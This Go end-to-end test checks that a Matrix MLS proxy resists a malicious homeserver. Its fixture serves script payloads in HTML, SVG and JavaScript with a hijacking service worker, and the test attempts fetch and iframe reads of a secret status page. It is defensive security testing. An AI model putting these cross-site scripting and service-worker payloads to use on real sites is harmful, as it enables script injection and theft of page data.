package e2e_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"github.com/matrix-mls/matrix-mls/proxy/account"
	"github.com/matrix-mls/matrix-mls/proxy/server"
)

// pageFile is where the homeserver of these tests has a file, and workerFile another. What a service worker stands for lies below it.
const (
	pageFile   = "/_matrix/media/v3/download/evil/page"
	workerFile = "/_matrix/media/v3/download/evil/worker"
)

// An evilHomeserver answers whatever it is asked with a script, in what its query says. The script tells it where it runs, and
// all that it finds there.
type evilHomeserver struct {
	*httptest.Server
	mu  sync.Mutex
	ran []string // origins
}

func newEvilHomeserver(s *story) *evilHomeserver {
	h := &evilHomeserver{}
	h.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/ran" {
			h.mu.Lock()
			h.ran = append(h.ran, r.FormValue("origin"))
			h.mu.Unlock()
			return
		}
		script := `self.document && (document.title = "it ran"); fetch("` + h.URL + `/ran?origin=" + encodeURIComponent(location.origin), {mode: "no-cors"});`
		for name, value := range map[string]string{"Service-Worker-Allowed": "/", "Content-Security-Policy": "default-src * 'unsafe-inline'", "X-Content-Type-Options": "none", "Link": "<" + pageFile + "?as=js>; rel=preload; as=script"} {
			w.Header().Set(name, value)
		}
		kinds := map[string]string{
			"html": "<!DOCTYPE html><title>a page</title><script>" + script + "</script>",
			"svg":  `<svg xmlns="http://www.w3.org/2000/svg"><script>` + strings.ReplaceAll(script, "&", "&amp;") + "</script></svg>",
			"js":   script + ` self.addEventListener && self.addEventListener("fetch", e => e.respondWith(new Response("the worker's", {headers: {"Content-Type": "text/html"}})));`,
		}
		as := r.FormValue("as")
		switch {
		case strings.HasSuffix(r.URL.Path, "/worker"):
			as = "js"
		case kinds[as] == "":
			as = "html"
		}
		if typ := map[string]string{"html": "text/html", "svg": "image/svg+xml", "js": "text/javascript"}[as]; r.FormValue("typed") != "no" {
			w.Header().Set("Content-Type", typ)
		} else {
			w.Header()["Content-Type"] = nil
		}
		if status := map[string]int{"404": http.StatusNotFound, "500": http.StatusInternalServerError}[r.FormValue("status")]; status != 0 {
			w.WriteHeader(status)
		}
		fmt.Fprint(w, kinds[as])
	}))
	s.Cleanup(h.Close)
	return h
}

// origins returns where scripts of the homeserver's have run so far.
func (h *evilHomeserver) origins() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return slices.Compact(slices.Sorted(slices.Values(h.ran)))
}

// value evaluates an expression in the page that the browser shows, and waits for what it promises.
func (b *browser) value(expression string) (out string) {
	b.s.Helper()
	var answer struct {
		Result struct{ Value string }
		Thrown struct {
			Exception struct{ Description string }
		} `json:"exceptionDetails"`
	}
	b.s.must(b.call("Runtime.evaluate", map[string]any{"expression": expression, "returnByValue": true, "awaitPromise": true}, &answer))
	if why := answer.Thrown.Exception.Description; why != "" {
		b.s.Fatalf("the browser: %s", why)
	}
	return answer.Result.Value
}

// visit shows a page, and returns its title and text. What is only saved shows none.
func (b *browser) visit(address string) (title, text string) {
	b.s.Helper()
	b.s.must(b.call("Page.navigate", map[string]any{"url": "about:blank"}, nil))
	b.s.must(b.call("Page.navigate", map[string]any{"url": address}, nil))
	for deadline := time.Now().Add(15 * time.Second); b.value("document.readyState") != "complete"; b.s.pause() {
		if time.Now().After(deadline) {
			b.s.Fatalf("%s is never there", address)
		}
	}
	return b.value("document.title"), b.value("document.documentElement.innerText")
}

// registers says what becomes of a service worker that a page of the browser's registers.
func (b *browser) registers(script, scope string) string {
	return b.value(fmt.Sprintf(`(async () => {
		if (!navigator.serviceWorker) return "refused: there are none";
		try { await navigator.serviceWorker.register(%q, {scope: %q}); return "registered"; } catch (e) { return "refused: " + e.name; }
	})()`, script, scope))
}

// TestProxyAndAnEvilHomeserver: a person opens in a browser whatever their homeserver would like them to open at the proxy's
// address for clients. None of its scripts runs there, nor does a service worker of its, nor does a page there learn anything of
// the status page.
func TestProxyAndAnEvilHomeserver(t *testing.T) {
	s := &story{TB: t, ctx: t.Context(), began: time.Now()}
	evil := newEvilHomeserver(s)
	const secret = "0123456789abcdef0123456789abcdef"
	accounts, err := account.Open(s.ctx, account.Options{Dir: t.TempDir(), Homeserver: evil.URL, Note: t.Logf})
	s.must(err)
	t.Cleanup(accounts.Close)
	base, err := url.Parse(evil.URL)
	s.must(err)
	proxy := server.New(server.Options{Homeserver: base, Accounts: accounts, Status: server.Status{Token: secret, Where: "the-file"}, Log: zerolog.Nop()})
	serve := func(run func(net.Listener) error) (origin string) {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		s.must(err)
		t.Cleanup(func() { l.Close() })
		go func() { _ = run(l) }()
		return "http://" + l.Addr().String()
	}
	clients := serve(func(l net.Listener) error { return proxy.Serve(s.ctx, l) })
	status := serve(func(l net.Listener) error { return proxy.ServeStatus(s.ctx, l) })
	statusPage := status + server.StatusPath + secret + "/"
	b := newBrowser(s)

	// At the homeserver's own address all of it works: what follows would see it.
	for _, query := range []string{"", "?as=svg"} {
		if title, text := b.visit(evil.URL + pageFile + query); title != "it ran" {
			t.Fatalf("the homeserver's page at its own address: %q, %q: the test shows nothing", title, text)
		}
	}
	b.visit(evil.URL + pageFile)
	if got := b.registers(workerFile, pageFile); got != "registered" {
		t.Fatalf("its service worker at its own address: %s: the test shows nothing", got)
	}
	s.eventually("the homeserver's scripts run at its own address", func() string {
		if got := evil.origins(); !slices.Contains(got, evil.URL) {
			return fmt.Sprintf("they run at %q", got)
		}
		return ""
	})

	if title, _ := b.visit(statusPage); title != "mls-proxy" {
		t.Fatalf("the status page is %q", title)
	}
	var paths []string
	for _, path := range []string{
		"/_matrix/client/versions", "/_matrix/client/v3/capabilities", "/_matrix/client/v3/login", "/.well-known/matrix/client", pageFile, pageFile + "/page.html",
		"/_matrix/media/v3/thumbnail/evil/page", "/_matrix/client/v1/media/download/evil/page", "/_mls/", "/_mls/login/x", "/",
	} {
		for _, query := range []string{"?as=html", "?as=svg", "?as=html&typed=no", "?as=html&status=404"} {
			paths = append(paths, path+query)
		}
	}
	for _, path := range paths {
		title, _ := b.visit(clients + path)
		if title == "it ran" {
			t.Errorf("%s: the homeserver's script runs at the proxy's address", path)
		}
		if b.value("location.origin") != clients && b.value("location.origin") != "null" {
			t.Errorf("%s leads to %s", path, b.value("location.href"))
		}
	}
	s.step("Chromium opened %d addresses", len(paths))

	// Somebody who has a script at that address, by whatever way, gets no further. The page that says where the status page is
	// is the proxy's own, and in no sandbox; what it may do by itself is left aside.
	s.must(b.call("Page.setBypassCSP", map[string]any{"enabled": true}, nil))
	b.visit(clients + "/_mls/")
	if origin := b.value("self.origin"); origin != clients {
		t.Fatalf("the page is of %q: the test shows nothing", origin)
	}
	for _, worker := range []string{workerFile, "/_matrix/client/v3/capabilities?as=js", "/_matrix/client/v1/media/download/evil/worker"} {
		if got := b.registers(worker, worker[:strings.LastIndex(worker, "/")+1]); !strings.HasPrefix(got, "refused") {
			t.Errorf("a service worker that lies at %s is %s", worker, got)
		}
	}
	asked := func(how string) string {
		return b.value(fmt.Sprintf(`(async () => { try { const r = await fetch(%q, %s); return r.type + " " + r.status + " " + await r.text(); } catch (e) { return "refused"; } })()`, statusPage, how))
	}
	for _, how := range []string{`{}`, `{mode: "cors", credentials: "include"}`, `{mode: "no-cors"}`} {
		if got := asked(how); got != "refused" && got != "opaque 0 " {
			t.Errorf("a script at the clients' address reads the status page: %q", got)
		}
	}
	framed := b.value(fmt.Sprintf(`new Promise(done => {
		const f = document.createElement("iframe");
		f.onload = () => { try { done("read " + f.contentDocument.documentElement.innerText); } catch (e) { done("refused"); } };
		f.onerror = () => done("refused");
		f.src = %q;
		document.body.append(f);
		setTimeout(() => done("refused"), 5000);
	})`, statusPage))
	if strings.Contains(framed, "mls-proxy") || strings.Contains(framed, secret) {
		t.Errorf("it shows the status page in a frame: %q", framed)
	}
	s.must(b.call("Page.setBypassCSP", map[string]any{"enabled": false}, nil))
	for _, at := range []string{clients + "/_mls/", statusPage} {
		b.visit(at)
		if n := b.value(`navigator.serviceWorker ? navigator.serviceWorker.getRegistrations().then(all => "" + all.length) : "0"`); n != "0" {
			t.Errorf("%s: %s service workers answer there", at, n)
		}
	}
	if title, text := b.visit(statusPage); title != "mls-proxy" || strings.Contains(text, "the worker's") {
		t.Errorf("the status page is %q afterwards: %q", title, text)
	}
	if scripts := b.value(`"" + document.scripts.length`); scripts != "0" {
		t.Errorf("the status page has %s scripts", scripts)
	}
	for _, origin := range evil.origins() {
		if origin != evil.URL {
			t.Errorf("a script of the homeserver's ran in %q", origin)
		}
	}
}
